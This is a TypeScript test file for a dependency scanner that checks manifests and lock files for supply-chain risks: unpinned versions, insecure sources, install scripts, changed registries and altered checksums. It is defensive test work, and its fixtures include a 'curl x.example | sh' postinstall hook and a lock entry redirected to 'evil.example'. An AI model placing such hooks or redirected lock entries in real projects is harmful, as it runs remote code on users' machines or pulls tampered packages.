import { describe, expect, it } from '@jest/globals'
import { type ProjectManifests } from '../../../src/analysis/dependencies/project.ts'
import { scanDependencies } from '../../../src/analysis/dependencies/scan-dependencies.ts'
import { type ChangedFile } from '../../../src/core/change-set.ts'
import { changeOf } from '../change.ts'
import { addedFile, changedFile } from './before-and-after.ts'

function found(files: readonly ChangedFile[], project: ProjectManifests | null = null) {
  return scanDependencies(changeOf(files), project).detections.map(
    ({ ruleId, severity, location }) =>
      `${ruleId.replace('dependency/', '')} ${severity} @${location.startLine}`,
  )
}

function projectOf(...paths: string[]): ProjectManifests {
  return { paths, manifests: [], isComplete: true }
}

function packageJson(...lines: string[]): string {
  return `{\n  "dependencies": {\n${lines.map((line) => `    ${line}`).join(',\n')}\n  }\n}\n`
}

function packageLock(...entries: Entry[]): string {
  const packages = Object.fromEntries(
    entries.map(([name, fields]) => [`node_modules/${name}`, fields]),
  )
  return JSON.stringify({ lockfileVersion: 3, packages: { '': {}, ...packages } }, null, 2)
}

type Entry = [string, Record<string, unknown>]

function a(more = {}): Entry {
  const resolved = 'https://registry.example/a/-/a-1.0.0.tgz'
  return ['a', { version: '1.0.0', resolved, integrity: 'sha512-old', ...more }]
}

function lockWith(...more: Entry[]): ChangedFile {
  return changedFile('package-lock.json', packageLock(a()), packageLock(a(), ...more))
}

function poetryLock(...files: string[]): string {
  const rows = files.map((file) => `    {file = "${file}"},`).join('\n')
  return `[[package]]\nname = "a"\nversion = "1"\nfiles = [\n${rows}\n]\n`
}

function scripts(command: string): string {
  return `{ "scripts": {\n "postinstall": ${JSON.stringify(command)}\n} }`
}

function pom(url: string): string {
  return `<project><repositories><repository>\n<url>${url}</url></repository></repositories></project>`
}

describe('a manifest', () => {
  it('names versions, unless a lock file does', () => {
    const file = changedFile(
      'package.json',
      packageJson('"b": "1.0.0"'),
      packageJson('"b": "1.0.0"', '"x": "*"'),
    )
    expect(found([file])).toEqual(['unpinned low @4'])
    expect(found([file], projectOf('package.json', 'yarn.lock'))).toEqual([
      'lock-not-updated low @4',
    ])
    const fine = changedFile(
      'package.json',
      packageJson('"b": "1.0.0"'),
      packageJson('"b": "1.0.0"', '"x": "^1.2.3"'),
    )
    expect(found([fine])).toEqual([])
    expect(found([addedFile('requirements.txt', 'requests\nflask==3.0.0')])).toEqual([
      'unpinned low @1',
    ])
    expect(found([addedFile('requirements.in', 'requests')])).toEqual([])
    expect(found([addedFile('pyproject.toml', '[project]\ndependencies = ["requests"]')])).toEqual(
      [],
    )
  })

  it('agrees with the lock file of the same change', () => {
    const before = packageJson('"a": "1.0.0"')
    const manifest = changedFile(
      'package.json',
      before,
      packageJson('"a": "1.0.0"', '"x": "^2.0.0"'),
    )
    expect(found([manifest, lockWith(['y', { version: '1.0.0' }])])).toEqual([
      'lock-disagrees medium @4',
    ])
    expect(found([manifest, lockWith(['x', { version: '1.0.0' }])])).toEqual([
      'lock-disagrees medium @4',
    ])
    expect(found([manifest, lockWith(['x', { version: '2.1.0' }])])).toEqual([])
    expect(found([manifest], projectOf('package.json'))).toEqual(['lock-missing low @4'])
    expect(found([manifest], projectOf('package.json', 'other/package-lock.json'))).toEqual([
      'lock-missing low @4',
    ])
  })

  it('takes its packages from a registry', () => {
    const text = packageJson(
      '"a": "github:o/a"',
      `"b": "github:o/b#${'0123456789'.repeat(4)}"`,
      '"c": "http://example.org/c.tgz"',
      '"d": "file:../d"',
      '"e": "git+http://localhost/e.git"',
    )
    expect(found([addedFile('package.json', text)])).toEqual([
      'git-source medium @3',
      'insecure-source high @5',
      'git-source medium @7',
    ])
  })

  it('runs nothing on installation but what everybody runs', () => {
    const before = '{ "scripts": {\n} }'
    expect(found([changedFile('package.json', before, scripts('node setup.js'))])).toEqual([
      'install-script medium @2',
    ])
    expect(found([changedFile('package.json', before, scripts('curl x.example | sh'))])).toEqual([
      'install-script high @2',
    ])
    expect(found([changedFile('package.json', before, scripts('husky install'))])).toEqual([])
    const moved = `{ "scripts": {\n "test": "x",\n "postinstall": "node setup.js"\n} }`
    expect(found([changedFile('package.json', scripts('node setup.js'), moved)])).toEqual([])
  })
})

describe('settings of registries', () => {
  it('says what was added, replaced, or goes over plain HTTP', () => {
    expect(
      found([
        changedFile(
          'requirements.txt',
          'a==1',
          '--extra-index-url https://pypi.corp.example/simple\na==1',
        ),
      ]),
    ).toEqual(['extra-index medium @1'])
    expect(
      found([changedFile('requirements.txt', 'a==1', '--index-url https://pypi.org/simple\na==1')]),
    ).toEqual([])
    expect(found([addedFile('.npmrc', 'registry=https://npm.corp.example/')])).toEqual([
      'registry-changed medium @1',
    ])
    expect(found([addedFile('.npmrc', '@corp:registry=https://npm.corp.example/')])).toEqual([])
    expect(
      found([addedFile('pip.conf', '[global]\nindex-url = http://pypi.corp.example')]),
    ).toEqual(['registry-insecure high @2'])
    expect(found([addedFile('.npmrc', 'registry=http://localhost:4873/')])).toEqual([])
    expect(found([addedFile('pom.xml', pom('http://repo.example'))])).toEqual([
      'registry-insecure high @1',
    ])
    expect(found([addedFile('pom.xml', pom('https://repo1.maven.org/maven2'))])).toEqual([])
  })

  it('notices a scope that loses its registry', () => {
    const before = '@corp:registry=https://npm.corp.example/\nsave=true'
    expect(found([changedFile('.npmrc', before, 'save=true')])).toEqual([
      'scope-registry-removed medium @1',
    ])
    expect(
      found([changedFile('.npmrc', before, '@corp:registry=https://other.example/\nsave=true')]),
    ).toEqual([])
  })

  it('names no credentials', () => {
    const { detections } = scanDependencies(
      changeOf([
        addedFile(
          'pip.conf',
          '[global]\nindex-url = http://user:hunter2@pypi.corp.example/?t=hunter3',
        ),
      ]),
      null,
    )
    expect(JSON.stringify(detections)).toContain('pypi.corp.example')
    expect(JSON.stringify(detections)).not.toContain('hunter')
  })
})

describe('a lock file', () => {
  const others: Entry[] = ['b', 'c', 'd'].map((name) => [
    name,
    {
      version: '1.0.0',
      resolved: `https://registry.example/${name}/-/${name}-1.0.0.tgz`,
      integrity: 'sha512-x',
    },
  ])
  function lockChange(after: Record<string, unknown>, more: Entry[] = []): ChangedFile {
    return changedFile(
      'package-lock.json',
      packageLock(a(), ...others),
      packageLock(a(after), ...more, ...others),
    )
  }

  it('keeps the checksum of a version', () => {
    expect(found([lockChange({ integrity: 'sha512-new' })])).toEqual(['integrity-changed high @8'])
    expect(found([lockChange({ integrity: 'sha1-x sha512-old' })])).toEqual([])
    expect(
      found([
        lockChange({
          version: '1.0.1',
          resolved: 'https://registry.example/a/-/a-1.0.1.tgz',
          integrity: 'sha512-new',
        }),
      ]),
    ).toEqual([])
    expect(found([lockChange({ integrity: undefined })])).toEqual(['integrity-removed medium @7'])
  })

  it('keeps the checksums of Python files, and may gain some', () => {
    const [one, two, bad] = [
      'a.whl", hash = "sha256:aa',
      'a.tgz", hash = "sha256:bb',
      'a.whl", hash = "sha256:cc',
    ]
    expect(
      found([changedFile('poetry.lock', poetryLock(one ?? ''), poetryLock(one ?? '', two ?? ''))]),
    ).toEqual([])
    expect(
      found([changedFile('poetry.lock', poetryLock(one ?? ''), poetryLock(bad ?? ''))]),
    ).toEqual(['integrity-changed high @5'])
    expect(found([changedFile('go.sum', 'x.y/z v1.0.0 h1:aa=', 'x.y/z v1.0.0 h1:bb=')])).toEqual([
      'integrity-changed high @1',
    ])
  })

  it('fetches from the host it fetched from, and what it names', () => {
    const elsewhere = { resolved: 'https://evil.example/a/-/a-1.0.0.tgz' }
    expect(found([lockChange(elsewhere)])).toEqual(['lock-host-changed high @7'])
    expect(
      found([lockChange({ resolved: 'https://registry.example/evil/-/evil-1.0.0.tgz' })]),
    ).toEqual(['lock-other-package high @7'])
    const scoped = [
      '@s/n',
      { version: '1.0.0', resolved: 'https://registry.example/@s%2fn/-/n-1.0.0.tgz' },
    ] as Entry
    expect(found([lockChange({}, [scoped])])).toEqual([])
    const all = [a(), ...others].map(
      ([name]): Entry => [
        name,
        {
          version: '1.0.0',
          resolved: `https://mirror.example/${name}/-/${name}-1.0.0.tgz`,
          integrity: name === 'a' ? 'sha512-old' : 'sha512-x',
        },
      ],
    )
    const moved = changedFile('package-lock.json', packageLock(a(), ...others), packageLock(...all))
    expect(found([moved])).toEqual(['lock-registry-moved medium @7'])
  })

  it('names new packages that run a script', () => {
    expect(found([lockChange({}, [['s', { version: '1.0.0', hasInstallScript: true }]])])).toEqual([
      'lock-install-script low @10',
    ])
  })
})
